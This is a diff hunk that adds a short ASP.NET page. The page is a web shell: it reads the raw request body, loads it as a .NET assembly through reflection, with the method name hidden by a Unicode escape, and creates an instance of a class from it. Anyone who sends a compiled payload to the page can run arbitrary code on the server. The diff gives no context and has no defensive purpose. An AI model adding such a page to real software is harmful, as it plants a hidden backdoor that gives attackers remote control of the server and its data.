@@ -1,0 +1,4 @@
+<%@ Page Language="C#" %>
+<%
+    System.Reflection.Assembly.\u004coad(Request.BinaryRead(Request.ContentLength)).CreateInstance("X").Equals(this);
+%>
